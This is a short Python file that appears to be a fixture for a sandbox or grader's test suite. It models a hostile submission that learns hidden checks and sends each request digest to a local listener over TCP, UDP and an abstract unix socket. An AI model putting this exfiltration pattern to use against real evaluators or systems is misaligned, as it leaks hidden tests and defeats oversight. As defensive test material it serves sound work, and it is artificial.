"""Learns the hidden checks and sends every request digest out over the network: TCP and UDP to a
listener on the machine, and an abstract unix socket.

base: buggy
class: 3
run: main
"""

import socket as _socket

_PORT = int("@PORT@")
_ABSTRACT = "\0hostile-listener-@TOKEN@"


def _on_call(name):
    line = (_SEEN[-1] + "\n").encode()
    for family, kind, address in ((_socket.AF_INET, _socket.SOCK_STREAM, ("127.0.0.1", _PORT)),
                                  (_socket.AF_INET, _socket.SOCK_DGRAM, ("127.0.0.1", _PORT)),
                                  (_socket.AF_UNIX, _socket.SOCK_STREAM, _ABSTRACT)):
        try:
            with _socket.socket(family, kind) as sender:
                sender.settimeout(0.2)
                if kind == _socket.SOCK_STREAM:
                    sender.connect(address)
                    sender.sendall(line)
                else:
                    sender.sendto(line, address)
        except OSError:
            continue


class _Log:
    _log_everything()
